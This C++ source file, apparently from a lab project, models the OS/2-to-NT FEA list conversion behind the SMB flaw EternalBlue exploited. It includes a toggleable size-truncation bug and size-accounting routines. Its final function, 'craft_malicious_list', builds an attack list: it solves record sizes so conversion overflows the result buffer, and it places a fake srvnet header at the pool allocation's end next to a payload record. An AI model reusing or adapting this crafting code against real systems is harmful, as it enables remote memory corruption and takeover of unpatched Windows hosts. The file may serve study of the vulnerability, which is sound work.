#include "etlab/fea.hpp"

#include <string>

namespace etlab::fea {

namespace {

constexpr std::size_t kEmptyOs2Record = kOs2RecordHeader + 1;
constexpr std::size_t kEmptyNtRecord = align_up(kNtRecordHeader + 1, 4);

struct RawRecord {
    std::uint8_t flags;
    ByteView name;
    ByteView value;
    std::size_t size;
};

// Reads the record at `offset` if its header and body are present in `list`.
std::optional<RawRecord> read_record(ByteView list, std::size_t offset) {
    if (offset > list.size() || list.size() - offset < kOs2RecordHeader) return std::nullopt;
    const std::uint8_t* p = list.data() + offset;
    const std::size_t name_len = p[1];
    const std::size_t value_len = load_u16le(p + 2);
    const std::size_t size = kOs2RecordHeader + name_len + 1 + value_len;
    if (list.size() - offset < size) return std::nullopt;
    return RawRecord{p[0], list.subspan(offset + kOs2RecordHeader, name_len),
                     list.subspan(offset + kOs2RecordHeader + name_len + 1, value_len), size};
}

std::size_t header_declared_size(ByteView list, std::size_t offset) {
    const std::uint8_t* p = list.data() + offset;
    return kOs2RecordHeader + p[1] + 1 + load_u16le(p + 2);
}

std::string at(std::size_t offset) { return " at list offset " + hex(offset); }

}  // namespace

std::size_t Os2FeaList::serialized_size() const {
    std::size_t n = kSizeFieldBytes + trailing_garbage.size();
    for (const auto& r : records) n += r.wire_size();
    return n;
}

Bytes Os2FeaList::serialize() const {
    ByteWriter w;
    w.buffer().reserve(serialized_size());
    w.u32le(size_of_list);
    for (const auto& r : records) {
        if (r.name.size() > 0xFF || r.value.size() > 0xFFFF)
            throw FeaError(FeaError::Kind::MalformedRecord,
                           "record name or value exceeds its length field");
        w.u8(r.flags);
        w.u8(r.name_length());
        w.u16le(r.value_length());
        w.bytes(r.name);
        w.u8(0);
        w.bytes(r.value);
    }
    w.bytes(trailing_garbage);
    return w.take();
}

Bytes NtFeaRecord::serialize() const {
    ByteWriter w;
    w.u32le(next_entry_offset);
    w.u8(flags);
    w.u8(static_cast<std::uint8_t>(name.size()));
    w.u16le(static_cast<std::uint16_t>(value.size()));
    w.bytes(name);
    w.u8(0);
    w.bytes(value);
    w.pad_to(4);
    return w.take();
}

ListSizes compute_sizes(const Os2FeaList& list) { return compute_sizes(list.serialize()); }

ListSizes compute_sizes(ByteView list) {
    if (list.size() < kSizeFieldBytes)
        throw FeaError(FeaError::Kind::MalformedRecord, "list shorter than its SizeOfList field");
    const std::size_t boundary = load_u32le(list.data());
    ListSizes sizes;
    std::size_t cur = kSizeFieldBytes;
    while (cur < boundary && cur < list.size()) {
        if (list.size() - cur < kOs2RecordHeader) {
            if (cur + kOs2RecordHeader > boundary) break;  // header itself crosses the boundary
            throw FeaError(FeaError::Kind::MalformedRecord, "truncated record header" + at(cur));
        }
        const std::size_t size = header_declared_size(list, cur);
        if (cur + size > boundary) break;  // out-of-boundary record: discarded
        auto rec = read_record(list, cur);
        if (!rec) throw FeaError(FeaError::Kind::MalformedRecord, "truncated record" + at(cur));
        sizes.s1 += align_up(kNtRecordHeader + rec->name.size() + 1 + rec->value.size(), 4);
        ++sizes.in_boundary_records;
        cur += size;
    }
    sizes.s2 = cur;
    return sizes;
}

ConversionOutcome convert_list(const Os2FeaList& list, ConversionOptions options) {
    return convert_list(list.serialize(), options);
}

ConversionOutcome convert_list(ByteView list, ConversionOptions options) {
    const auto sizes = compute_sizes(list);
    const std::uint32_t declared = load_u32le(list.data());

    ConversionOutcome out;
    out.s1 = sizes.s1;
    out.s2 = sizes.s2;
    const auto s2 = static_cast<std::uint32_t>(sizes.s2);
    out.effective_size_of_list = options.bug_enabled ? truncated_assign(declared, s2) : s2;

    ByteWriter result;
    result.buffer().reserve(sizes.s1 + 256);
    std::size_t last_entry = 0;
    std::size_t iterations = 0;
    const std::size_t end = out.effective_size_of_list;
    std::size_t cur = kSizeFieldBytes;
    while (cur < end) {
        if (++iterations > options.iteration_cap)
            throw FeaError(FeaError::Kind::InfiniteLoopGuard,
                           "conversion exceeded " + std::to_string(options.iteration_cap) +
                               " iterations");
        auto rec = read_record(list, cur);
        if (!rec) break;  // ran off the received data
        last_entry = result.size();
        NtFeaRecord nt;
        nt.flags = rec->flags;
        nt.name.assign(rec->name.begin(), rec->name.end());
        nt.value.assign(rec->value.begin(), rec->value.end());
        nt.next_entry_offset = static_cast<std::uint32_t>(nt.padded_size());
        result.bytes(nt.serialize());
        ++out.records_converted;
        cur += rec->size;
    }
    if (out.records_converted) result.patch_u32le(last_entry, 0);

    out.bytes_written = result.size();
    out.result = result.take();
    if (out.bytes_written > out.s1)
        out.overflow_bytes.assign(out.result.begin() + static_cast<std::ptrdiff_t>(out.s1),
                                  out.result.end());
    return out;
}

std::size_t required_payload_length(const CraftTargets& t) {
    const std::size_t fixed = kSizeFieldBytes + t.empty_records * kEmptyOs2Record + kEmptyOs2Record;
    if (t.s2 < fixed)
        throw FeaError(FeaError::Kind::SizeConstraintUnsatisfiable,
                       "s2 target too small for " + std::to_string(t.empty_records) +
                           " empty records");
    return t.s2 - fixed;
}

Os2FeaList craft_malicious_list(ByteView payload, const SrvnetHeaderImage& fake_header,
                                const CraftTargets& t) {
    auto unsat = [](const std::string& why) {
        return FeaError(FeaError::Kind::SizeConstraintUnsatisfiable, why);
    };

    // s2 = 4 + empty * 5 + (5 + v) pins the payload record's value length v;
    // s1 = empty * 12 + align4(9 + v) must then land on the s1 target.
    const std::size_t value_len = required_payload_length(t);
    if (value_len > 0xFFFF) throw unsat("payload record would exceed 0xffff bytes");
    if (payload.size() > value_len)
        throw unsat("payload of " + std::to_string(payload.size()) + " bytes exceeds solved length " +
                    std::to_string(value_len));
    const std::size_t s1 = t.empty_records * kEmptyNtRecord + align_up(kNtRecordHeader + 1 + value_len, 4);
    if (s1 != t.s1) throw unsat("solved list converts to " + hex(s1) + ", not " + hex(t.s1));
    if (t.s2 > t.size_of_list) throw unsat("s2 target lies beyond SizeOfList");

    const std::size_t last_size = kEmptyOs2Record + t.last_record_value_length;
    if (t.s2 + last_size <= t.size_of_list)
        throw unsat("final record does not cross the SizeOfList boundary");

    // The final record's converted form starts at s1. Its value has to put the
    // header image exactly where the result buffer's pool allocation ends.
    const std::size_t spill = spill_offset(t.s1, t.pool_granularity);
    const std::size_t value_start = kNtRecordHeader + 1;
    if (spill < value_start || spill - value_start + SrvnetHeaderImage::kImageSize > t.last_record_value_length)
        throw unsat("header image cannot be aligned with the allocation end");
    const std::size_t lead = spill - value_start;

    Os2FeaList list;
    list.size_of_list = t.size_of_list;
    list.records.resize(t.empty_records);

    Os2FeaRecord body;
    body.value.assign(payload.begin(), payload.end());
    auto pad = inert_filler(value_len - payload.size(), payload.size());
    body.value.insert(body.value.end(), pad.begin(), pad.end());
    list.records.push_back(std::move(body));

    Os2FeaRecord last;
    last.value = inert_filler(lead);
    auto image = fake_header.serialize();
    last.value.insert(last.value.end(), image.begin(), image.end());
    auto tail = inert_filler(t.last_record_value_length - last.value.size());
    last.value.insert(last.value.end(), tail.begin(), tail.end());
    list.records.push_back(std::move(last));

    list.trailing_garbage = inert_filler(t.trailing_garbage);

    const auto check = compute_sizes(list);
    if (check.s1 != t.s1 || check.s2 != t.s2) throw unsat("crafted list failed its size self-check");
    return list;
}

}  // namespace etlab::fea
